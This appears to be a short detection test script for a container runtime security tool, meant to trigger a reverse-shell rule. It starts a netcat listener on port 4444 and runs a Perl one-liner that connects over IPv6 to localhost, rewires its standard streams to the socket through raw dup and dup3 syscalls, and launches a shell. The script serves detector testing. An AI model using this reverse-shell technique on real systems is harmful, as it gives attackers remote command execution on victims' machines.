# in: container
# fires: execution-reverse-shell
# By dup3 and by dup into a hole, over IPv6.
nc -l -p 4444 < /dev/null &
sleep 0.3
perl -e 'socket(S, 10, 1, 6); connect(S, pack("S n L Q2 L", 10, 4444, 0, 0, 0xffff | 1 << 56, 0)) or
  connect(S, pack("S n L N4 L", 10, 4444, 0, 0, 0, 0xffff, 0x7f000001, 0)) or die $!;
  syscall(3, 0); syscall(32, fileno(S)); syscall(292, fileno(S), 1, 0); exec "sh"'
